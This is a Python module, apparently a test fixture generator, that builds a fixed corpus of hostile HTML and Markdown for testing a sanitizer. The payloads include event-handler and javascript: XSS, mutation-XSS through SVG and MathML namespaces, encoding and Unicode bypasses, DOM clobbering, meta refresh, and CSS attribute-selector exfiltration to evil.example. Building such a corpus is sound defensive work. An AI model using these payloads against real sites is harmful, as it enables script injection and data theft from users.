"""Hostile pieces of markup, generated: the same ones in the same order in every run."""

from collections.abc import Callable, Iterator, Sequence
from itertools import cycle, islice
from typing import Final, NamedTuple

from tests.hostile.vocabulary import (
    CALL,
    CLOBBERED,
    CLOBBERS,
    CSS,
    ELEMENTS,
    HANDLERS,
    LOADED_FROM,
    LOADS,
    PLACES,
    SCHEMES,
    STRANGER,
)

IMAGE: Final = f"<img src=x onerror={CALL}>"
SCRIPT: Final = f"<script>{CALL}</script>"
FRAME: Final = f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>"
REMOTE: Final = f"<img src=https://{STRANGER}/seen>"
CORES: Final = (IMAGE, SCRIPT, f"<svg onload={CALL}>", FRAME, REMOTE)


class Payload(NamedTuple):
    """One attack."""

    family: str
    source: str


def payloads() -> tuple[Payload, ...]:
    """Give all of them, each once."""
    seen: dict[str, Payload] = {}
    for family, attacks in FAMILIES.items():
        for source in attacks():
            seen.setdefault(source, Payload(family, source))
    return tuple(seen.values())


def tenth() -> tuple[Payload, ...]:
    """Give every tenth of each family, and at least one."""
    return every(10, payloads())


def every(step: int, attacks: Sequence[Payload]) -> tuple[Payload, ...]:
    """Give the first of each family, and then every `step`-th of it."""
    families = {family: [each for each in attacks if each.family == family] for family in FAMILIES}
    return tuple(each for found in families.values() for each in found[::step])


def handlers() -> Iterator[str]:
    """Every element with handlers in turn, and every handler on some element."""
    after = cycle(HANDLERS)
    for element in ELEMENTS:
        first, second = islice(after, 2)
        yield f"<{element} {first}={CALL} autofocus tabindex=1>x</{element}>"
        yield f'<{element}/src=x/{second}="{CALL}" open>x'
    for handler in HANDLERS:
        yield f"<img src=x {handler}={CALL}>"
        yield f"<svg {handler.upper()}='{CALL}'><animate {handler}={CALL} begin=0s dur=1s></svg>"
        yield f"<details open {handler}={CALL} contenteditable><summary>x</summary></details>"


def targets() -> Iterator[str]:
    """Every scheme in a link and a picture, and a third of them in every other place, in turn."""
    quotes = cycle(("'{}'", '"{}"'))
    for number, place in enumerate(PLACES):
        for scheme in SCHEMES if number < 2 else SCHEMES[number % 3 :: 3]:
            quote = next(quotes)
            mark = quote[0]
            spelt = scheme.replace(mark, "&quot;" if mark == '"' else "&#39;")
            yield place.format(quote.format(spelt))


def loads() -> Iterator[str]:
    """Everything that makes a browser ask somebody for something."""
    for number, place in enumerate(LOADS):
        for address in LOADED_FROM:
            target = address.format(number)
            yield place.format(target, target)


def styles() -> Iterator[str]:
    """Styles on elements and in sheets."""
    elements = cycle(("p", "div", "a", "img", "li", "b", "h1", "span", "td"))
    for rule in CSS:
        element = next(elements)
        yield f'<{element} style="{rule}">styled</{element}>'
        yield f"<style>*{{{rule}}}</style><p>styled</p>"
    yield "<style>@import url(https://evil.example/i);</style>"
    yield "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>"
    yield "<style>@namespace url(https://evil.example/n);</style>"
    yield "<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=ab>"
    yield "<style><!--</style><script>owned()</script>--></style>"
    yield "<style media='x' onload=owned()></style>"
    yield "<style type=text/x>p{}</style><link rel='stylesheet' media='all' href='//evil.example'>"


FOREIGN: Final = (
    *("<svg>", "<math>", "<math><mtext>", "<math><mi>", "<svg><foreignObject>", "<svg><desc>"),
    *("<svg><title>", "<math><annotation-xml encoding=text/html>", "<math><annotation-xml>"),
    *("<select>", "<table>", "<table><caption>", "<table><tr><td>", "<template>", "<noscript>"),
    *("<form><math><mtext></form><form><mglyph>", "<math><mtext><table><mglyph>", "<svg></p>"),
    *("<math></br>", "<button>", "<frameset>", "<object>", "<ruby><rt>", "<select><optgroup>"),
)
RAW: Final = (
    *("style", "title", "textarea", "noscript", "xmp", "noembed", "noframes", "iframe", "script"),
    "plaintext",
)


def mutations() -> Iterator[str]:
    """Markup that a browser reads differently the second time, or in another namespace."""
    for around in FOREIGN:
        for raw in RAW:
            yield f"{around}<{raw}><a title='</{raw}>{IMAGE}'>x"
        yield f"{around}<style><!--</style>{IMAGE}-->"
        yield f"{around}<![CDATA[</p>]]>{IMAGE}"
        yield f"{around}<!--></p>{IMAGE}-->"
        yield f"{around}<a><style></a></style>{IMAGE}</a>"
    for raw in RAW:
        for quote in ('"', "'", "`", ""):
            yield f"<{raw}><p title={quote}</{raw}>{IMAGE}{quote}></{raw}>"
        yield f"<{raw}></{raw}\t>{SCRIPT}</{raw}>"
        yield f"<{raw}>{SCRIPT}</{raw}/{IMAGE}>"
        yield f"<{raw}><{raw}></{raw}>{IMAGE}</{raw}>"
    for pair in (("b", "p"), ("a", "div"), ("form", "table"), ("p", "table"), ("a", "a")):
        inner, outer = pair
        yield f"<{outer}><{inner}></{outer}></{inner}>{IMAGE}"
        yield f"<{inner}><{outer}></{inner}>{IMAGE}</{outer}><{inner}>" * 3


NOISE: Final = (
    *("<", "<<", "</", "<!", "<?", "<!--", "<!-->", "<!--->", "<!-- --!>", "-->", "<![CDATA["),
    *("<%", "<\0", "\0<", "<\x0b", "< ", "</ ", "<a", "<a ", '<a "', "<a '", "<a href=", "<a `"),
    *("&lt", "&#60", "&#x3c", "&amp;lt;", "\ufeff", "\u2028", "\ud7ff", "<p/", "<p//", "<p =x"),
    *("<img title='", '<img alt="', "<a href='https://x.example/", "<b" + " " * 60),
)


def broken() -> Iterator[str]:
    """Attacks behind and inside of what nobody should write."""
    for noise in NOISE:
        for core in CORES[:4]:
            yield f"{noise}{core}"
        yield f"{IMAGE[:8]}{noise}{IMAGE[8:]}"
    for core in CORES:
        yield core.replace("<", "<\0")
        yield core.replace("s", "\u017f")
        yield core.replace("i", "\u0131").replace("k", "\u212a")
        yield core.replace(" ", "\f")
        yield core.replace(" ", "/")
        yield core.replace(" ", "\x0b")
        yield core.replace(">", "")
        yield core.replace(">", " <b>")
        yield core.upper().replace(CALL.upper(), CALL)
        yield core.replace("<", "\uff1c").replace(">", "\uff1e")
        yield core.replace("<", "\u2039").replace(">", "\u203a")
        yield f"{core[:4]}{core}{core[4:]}"
        yield core.replace("<", f"<{core}<")


def clobbering() -> Iterator[str]:
    """Names that whoever walks a tree might take for its own."""
    for name in CLOBBERED:
        for place in CLOBBERS:
            yield place.format(name)


def documents() -> Iterator[str]:
    """Whatever belongs into the head of a page, or changes the page as a whole."""
    for event in ("onload", "onpageshow", "onhashchange", "onfocus", "onscroll", "onunload"):
        yield f"<body {event}={CALL}>x"
        yield f"<html {event}={CALL}><head {event}={CALL}>x"
    for seconds in ("0", "1", "0.1", "", "0,", " 0 "):
        yield f"<meta http-equiv=refresh content='{seconds};url=https://{STRANGER}/m'>"
        yield f"<meta http-equiv='REFRESH' content=\"{seconds}; URL='javascript:{CALL}'\">"
    for name in ("set-cookie", "content-security-policy", "x-ua-compatible", "default-style"):
        yield f"<meta http-equiv={name} content='session=x; script-src *'>"
    yield "<meta charset=utf-7>+ADw-script+AD4-owned()+ADw-/script+AD4-"
    yield "<meta charset=iso-2022-jp><a title='\x1b$B'><img src=x onerror=owned()>"
    for target in ("_top", "_parent", "_self", "x"):
        yield f"<base target={target} href=https://{STRANGER}/><a href=x target={target}>press</a>"
    yield "<dialog open popover=manual>x</dialog><button popovertarget=x>x</button>"
    yield "<button commandfor=x command=show-modal>x</button><dialog id=x>y</dialog>"
    yield "<div popover id=x onbeforetoggle=owned()>x</div><button popovertarget=x>press</button>"
    yield "<div is=x-y contenteditable inert hidden accesskey=x draggable=true>x</div>"
    yield "<p nonce=x itemid=//evil.example itemprop=x vocab=//evil.example typeof=x>x</p>"


def _entities(text: str, spelling: str) -> str:
    return "".join(spelling.format(ord(letter)) for letter in text)


ENCODINGS: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("<", "&amp;amp;lt;").replace(">", "&amp;amp;gt;"),
    lambda text: _entities(text, "&#{};"),
    lambda text: _entities(text, "&#{:07d}"),
    lambda text: _entities(text, "&#x{:x};"),
    lambda text: _entities(text, "&#X{:06X};"),
    lambda text: _entities(text, "%{:02x}"),
    lambda text: _entities(text, "\\u{:04x}"),
    lambda text: _entities(text, "\\x{:02x}"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "\u00c0\u00bc"),
    "\0".join,
    "\u200b".join,
    lambda text: f"\u202e{text[::-1]}",
    lambda text: text.encode().decode("latin-1").replace("<", "\u0080<"),
)


def encoded() -> Iterator[str]:
    """Attacks that something on their way might decode."""
    for core in CORES:
        for encode in ENCODINGS:
            yield encode(core)
            yield f"<a title='{encode(core.replace(chr(39), ''))}'>x</a>"


def nested() -> Iterator[str]:
    """Attacks inside each other, and deep inside of what is allowed."""
    for core in CORES:
        for depth in (2, 20, 45, 120):
            yield "<div>" * depth + core
            yield "<blockquote><ul><li>" * depth + core
            yield "<b><i>" * depth + core + "</b>" * depth
        yield f"<scr{core}ipt>{CALL}</scr{core}ipt>"
        yield f"<a href='https://x.example/{core.replace(chr(39), '')}'>{core}</a>"
        yield f"<img alt='{core.replace(chr(39), '')}' src='https://{STRANGER}/a'>"
        yield f"<p {core}>x</p {core}>"
        yield f"<{core}>{core}</{core}>"
        yield f"<template><template>{core}</template>{core}</template>{core}"
        yield f"<svg><svg><foreignObject><svg>{core}</svg>"
        yield f"<dl><dt>{core}<dd><ol><li>{core}</dl>"


def markdown() -> Iterator[str]:
    """What Markdown makes links, pictures and raw HTML of."""
    for scheme in SCHEMES:
        yield f"[press]({scheme})"
        yield f"text ![picture](<{scheme}>)"
    for core in CORES:
        yield f"text\n\n{core}\n\n- item {core}\n"
        yield f"```html\n{core}\n```"
        yield f"```{core}\nx\n```"
        yield f"`{core}`"
        yield f"| a | {core} |\n|---|---|\n| {core} | b |"
        yield f"[{core}](https://x.example '{core.replace(chr(39), '')}')"
        yield f"# {core}\n\n> {core}"
        yield f"*{core}* **{core}** \\{core}"
    yield '[press](https://x.example "x" onmouseover="owned()")'
    yield "[press][x]\n\n[x]: javascript:owned() 'x'"
    yield "![x][y]\n\n[y]: https://evil.example/picture"
    yield "<javascript:owned()>"
    yield '<https://x.example/"onclick=owned()>'
    yield 'text <x@y.example"onclick=owned()>'


def addresses() -> Iterator[str]:
    """Text that becomes links, and means to become more."""
    for tail in (
        '"onclick=owned()',
        "'onclick=owned()",
        "<script>owned()</script>",
        "&quot;x",
        "`",
    ):
        yield f"https://x.example/{tail}"
        yield f"www.x.example/{tail} more"
        yield f"a@x.example{tail}"
        yield f"<b>http://x.example/{tail}</b>"
    for scheme in SCHEMES:
        yield f"see {scheme} and https://x.example/?{scheme}"
    yield "https://x.example@evil.example/ https://x.example\u2044evil.example"
    yield "https://x.example/\u202egpj.exe"
    yield "mailto:a@x.example?subject=<script>owned()</script>&body=%0d%0aBcc:b@y.example"


FAMILIES: Final[dict[str, Callable[[], Iterator[str]]]] = {
    "handlers": handlers,
    "targets": targets,
    "loads": loads,
    "styles": styles,
    "mutations": mutations,
    "broken markup": broken,
    "clobbering": clobbering,
    "documents": documents,
    "encodings": encoded,
    "nesting": nested,
    "Markdown": markdown,
    "addresses": addresses,
}
